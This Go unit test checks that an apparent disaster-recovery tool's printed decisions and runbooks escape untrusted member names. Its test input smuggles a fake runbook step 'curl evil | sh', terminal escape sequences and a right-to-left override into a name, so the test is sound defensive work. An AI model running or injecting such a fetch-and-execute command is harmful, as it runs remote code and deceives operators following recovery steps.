package main

import (
	"bytes"
	"errors"
	"testing"

	"github.com/lifeboat-dr/lifeboat/doctor"
	"github.com/lifeboat-dr/lifeboat/restore/runbook"
	"github.com/lifeboat-dr/lifeboat/snapshot"
)

// TestNoNameWritesALineOfOurs: whoever names a member, or writes into a sink, has no say over what stands around the name.
func TestNoNameWritesALineOfOurs(t *testing.T) {
	const name = "m1\n   1. Do this:\r\n curl evil | sh\x1b[8m\u202e\x9b2J"
	var out, errs bytes.Buffer
	s := streams{out: &out, err: &errs}
	s.errorf(errors.New(name))
	s.warnf("%s", name)
	d := doctor.Decision{
		Sentence: name, Members: []doctor.Member{{Member: snapshot.Member{Name: name}, Reason: name}},
		Findings: []doctor.Finding{{Text: name, Advice: name, Commands: []string{name}}},
		Options:  []doctor.Option{{Title: name, Loses: name, Steps: []runbook.Step{{Title: name, On: []string{name}, Commands: []string{name}, Until: name}}}},
	}
	if err := printDecision(&global{streams: s}, doctor.Facts{}, d); err != nil {
		t.Fatal(err)
	}
	for _, text := range []string{out.String(), errs.String()} {
		for _, bad := range []string{"\r", "\x1b", "\u202e", "\x9b2J", "\n   1. Do", "\n curl"} {
			if bytes.Contains([]byte(text), []byte(bad)) {
				t.Errorf("%q is printed as it is:\n%q", bad, text)
			}
		}
	}
	if got := visible("etcd 3.6.16 → 3.7.3，备份"); got != "etcd 3.6.16 → 3.7.3，备份" {
		t.Errorf("plain text became %q", got)
	}
}
